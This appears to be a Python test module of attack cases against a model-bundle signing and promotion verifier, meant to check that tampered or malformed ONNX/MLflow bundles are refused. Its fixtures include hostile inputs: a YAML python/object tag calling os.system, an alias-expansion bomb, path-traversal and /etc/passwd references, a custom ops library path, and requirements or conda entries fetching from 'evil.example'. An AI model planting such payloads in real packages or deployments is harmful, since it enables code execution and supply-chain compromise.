"""Attempts with the files: others than were certified, and certified ones that serve others.

Where a scene says `certified`, the verifier was talked into signing the odd bundle as it is: its
shape alone must refuse it.
"""

import os
from collections.abc import Mapping
from typing import Any

import yaml

import toys
from flows.attacks.table import Scene, attack, promotion
from flows.attacks.world import Version, World, files

EVIL = toys.onnx_tiny(shape=(1, 8, 8), classes=10, seed=66)

TAMPERED: dict[str, Any] = {
    "other-network": lambda d: EVIL,
    "one-bit": lambda d: bytes([d[0] ^ 1]) + d[1:],
    "one-byte-more": lambda d: d + b"\x00",
    "cut": lambda d: d[:-1],
    "empty": lambda d: b"",
}


@attack(11, variants=TAMPERED)
def bytes_changed_after_signing(w: World, change: Any) -> Scene:
    version = w.version()
    path = version.folder / "model.onnx"
    path.write_bytes(change(path.read_bytes()))
    yield promotion(w, version, "model.onnx")


@attack(11, variants={"same-size-and-time": True, "same-size": False})
def bytes_changed_after_a_promotion_passed(w: World, stamp: bool) -> Scene:
    """No cache by path, size or time may vouch for bytes: the second promotion reads them."""
    version = w.version()
    assert w.alias(version, "production").ok
    other = dict(version.files) | {"model.onnx": EVIL}
    again = w.version(version.name, content=version.files)
    path = again.folder / "model.onnx"
    assert w.alias(again, "production").ok
    third = w.version(version.name, content=version.files)
    path, before = third.folder / "model.onnx", (third.folder / "model.onnx").stat()
    data = other["model.onnx"][: before.st_size].ljust(before.st_size, b"\x00")
    path.write_bytes(data)
    if stamp:
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    yield promotion(w, third, "model.onnx", serves=(version, again))


@attack(
    11, variants={"model": "model.onnx", "mlmodel": "MLmodel", "requirements": "requirements.txt"}
)
def file_removed_after_signing(w: World, name: str) -> Scene:
    version = w.version()
    (version.folder / name).unlink()
    yield promotion(w, version, name)


@attack(11)
def folder_removed_after_signing(w: World) -> Scene:
    version = w.version()
    for path in version.folder.iterdir():
        path.unlink()
    version.folder.rmdir()
    yield promotion(w, version)


def _mlmodel(edit: Any) -> Any:
    def change(content: Mapping[str, bytes]) -> dict[str, bytes]:
        body = yaml.safe_load(content["MLmodel"])
        edit(body)
        return {**content, "MLmodel": yaml.safe_dump(body).encode(), "evil.onnx": EVIL}

    return change


def _without(change: Any, *names: str) -> Any:
    return lambda content: {k: v for k, v in change(content).items() if k not in names}


def _text(edit: Any) -> Any:
    return lambda content: {**content, "MLmodel": edit(content["MLmodel"])}


def _with(**more: bytes) -> Any:
    return lambda content: {**content, **{k.replace("__", "/"): v for k, v in more.items()}}


def _file(name: str, data: bytes) -> Any:
    return lambda content: {**content, name: data}


SHAPES: dict[str, Any] = {
    "redirected-data": _mlmodel(lambda b: b["flavors"]["onnx"].update(data="evil.onnx")),
    "redirected-python-data": _mlmodel(
        lambda b: b["flavors"]["python_function"].update(data="evil.onnx")
    ),
    "data-by-dots": _without(
        _mlmodel(lambda b: b["flavors"]["onnx"].update(data="../student/model.onnx")), "evil.onnx"
    ),
    "data-absolute": _without(
        _mlmodel(lambda b: b["flavors"]["onnx"].update(data="/etc/passwd")), "evil.onnx"
    ),
    "loader-module": _without(
        _mlmodel(lambda b: b["flavors"]["python_function"].update(loader_module="os")), "evil.onnx"
    ),
    "code": _mlmodel(lambda b: b["flavors"]["python_function"].update(code="code")),
    "code-key-only": _without(
        _mlmodel(lambda b: b["flavors"]["python_function"].update(code="code")), "evil.onnx"
    ),
    "third-flavour": _without(
        _mlmodel(lambda b: b["flavors"].update(sklearn={"pickled_model": "model.onnx"})),
        "evil.onnx",
    ),
    "one-flavour-less": _without(_mlmodel(lambda b: b["flavors"].pop("onnx")), "evil.onnx"),
    "session-options": _without(
        _mlmodel(
            lambda b: b["flavors"]["onnx"].update(
                onnx_session_options={"custom_ops_library": "/tmp/evil.so"}
            )
        ),
        "evil.onnx",
    ),
    "provider": _without(
        _mlmodel(lambda b: b["flavors"]["onnx"].update(providers=["EvilProvider"])), "evil.onnx"
    ),
    "external-data": _mlmodel(
        lambda b: b["flavors"]["onnx"].update(external_data="evil.onnx")
    ),
    "model-config": _without(
        _mlmodel(lambda b: b["flavors"]["python_function"].update(config={"x": 1})), "evil.onnx"
    ),
    "resources": _without(
        _mlmodel(lambda b: b.update(auth_policy={"system_auth_policy": {}})), "evil.onnx"
    ),
    "anchors": _text(lambda d: d + b"\nmetadata: &a [*a]\n"),
    "python-object": _text(lambda d: d + b"\nrun_id: !!python/object/apply:os.system ['true']\n"),
    "repeated-flavors": _text(lambda d: d + b"\nflavors: {onnx: {data: evil.onnx}}\n"),
    "two-documents": _text(lambda d: d + b"\n---\nflavors: {}\n"),
    "not-yaml": _text(lambda d: b"{" * 3000),
    "no-text": _text(lambda d: b"\xff\xfe\x00"),
    "empty-mlmodel": _text(lambda d: b""),
    "bomb": _text(
        lambda d: b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(
            b"%c: &%c [%s]\n" % (98 + i, 98 + i, b",".join([b"*%c" % (97 + i)] * 9))
            for i in range(9)
        )
        + d
    ),
    "extra-file": _file("notes.txt", b"hello"),
    "hidden-file": _file(".hidden", b"hello"),
    "code-folder": _file("code/evil.py", b"import os\n"),
    "second-model": _file("model2.onnx", EVIL),
    "model-in-a-folder": _file("model.onnx.d/model.onnx", EVIL),
    "upper-case-twin": _file("MODEL.ONNX", EVIL),
    "dotless-twin": _file("mlmodel", b"flavors: {}"),
    "weights-beside": _file("model.onnx.data", b"\x00" * 64),
    "pickle": _file("python_model.pkl", b"\x80\x04."),
    "input-example": _file("input_example.json", b"[]"),
    "stored-registered-model-meta": _file("registered_model_meta", b"model_name: other\n"),
    "stored-meta-of-another": _file(
        "registered_model_meta", b"model_name: x\nmodel_version: '1'\ndata: evil.onnx\n"
    ),
    "requirement-of-a-stranger": _file("requirements.txt", b"mlflow\nevil-package\n"),
    "requirement-by-url": _file("requirements.txt", b"onnx @ https://evil.example/onnx.whl\n"),
    "requirement-index": _file("requirements.txt", b"--index-url https://evil.example\nmlflow\n"),
    "requirement-continued": _file("requirements.txt", b"mlflow \\\n--index-url https://evil\n"),
    "requirement-included": _file("requirements.txt", b"-r /etc/passwd\n"),
    "requirement-look-alike": _file("requirements.txt", "оnnx\n".encode()),
    "conda-channel": _file(
        "conda.yaml", b"channels: [https://evil.example]\ndependencies: [python=3.11]\n"
    ),
    "conda-pip": _file(
        "conda.yaml", b"dependencies: [python=3.11, {pip: ['git+https://evil.example/x']}]\n"
    ),
    "python-env": _file("python_env.yaml", b"dependencies: ['evil']\n"),
    "without-mlmodel": lambda content: {k: v for k, v in content.items() if k != "MLmodel"},
    "without-model": lambda content: {k: v for k, v in content.items() if k != "model.onnx"},
    "only-a-readme": lambda content: {"README": b"nothing here"},
    "long-name": _file("n" * 200, b""),
    "odd-name": _file("a\nb", b""),
    "percent-name": _file("%2e%2e%2fmodel.onnx", b""),
}  # fmt: skip


@attack(11, variants=SHAPES)
def certified_odd_bundle(w: World, change: Any) -> Scene:
    version = w.version(content=change(files()), certified=False)
    w.certify(version, w.certificate(version))
    yield promotion(w, version)


# ── Things on the disk that are no files ────────────────────────────────────────────────────────


def _linked(version: Version) -> None:
    path = version.folder / "model.onnx"
    path.rename(version.folder.parent / "elsewhere.onnx")
    path.symlink_to(version.folder.parent / "elsewhere.onnx")


def _linked_folder(version: Version) -> None:
    """The folder itself leads out of every allowed root."""
    moved = version.folder.parents[4] / f"moved-{version.run_id}"
    version.folder.rename(moved)
    version.folder.symlink_to(moved, target_is_directory=True)


def _extra_link(version: Version) -> None:
    (version.folder / "passwd").symlink_to("/etc/passwd")


def _dangling(version: Version) -> None:
    (version.folder / "code").symlink_to("/nowhere/at/all")


def _loop(version: Version) -> None:
    (version.folder / "again").symlink_to(version.folder, target_is_directory=True)


def _fifo(version: Version) -> None:
    os.mkfifo(version.folder / "conda.pipe")


def _fifo_for_the_model(version: Version) -> None:
    (version.folder / "model.onnx").unlink()
    os.mkfifo(version.folder / "model.onnx")


def _folder_for_the_model(version: Version) -> None:
    (version.folder / "model.onnx").unlink()
    (version.folder / "model.onnx").mkdir()


def _huge(version: Version) -> None:
    with (version.folder / "model.onnx").open("r+b") as file:
        file.truncate(40 << 30)


def _huge_beside(version: Version) -> None:
    with (version.folder / "weights.bin").open("wb") as file:
        file.truncate(40 << 30)


def _many(version: Version) -> None:
    for number in range(3000):
        (version.folder / f"f{number}").touch()


def _deep(version: Version) -> None:
    folder = version.folder
    for _ in range(300):
        folder /= "d"
        folder.mkdir()
    (folder / "evil.py").touch()


DISK = {
    "link": _linked,
    "linked-folder": _linked_folder,
    "link-beside": _extra_link,
    "dangling-link": _dangling,
    "loop": _loop,
    "fifo": _fifo,
    "fifo-for-the-model": _fifo_for_the_model,
    "folder-for-the-model": _folder_for_the_model,
    "huge-model": _huge,
    "huge-file-beside": _huge_beside,
    "many-files": _many,
    "deep-folders": _deep,
}


@attack(11, variants=DISK)
def no_plain_files(w: World, arrange: Any) -> Scene:
    version = w.version()
    arrange(version)
    yield promotion(w, version)
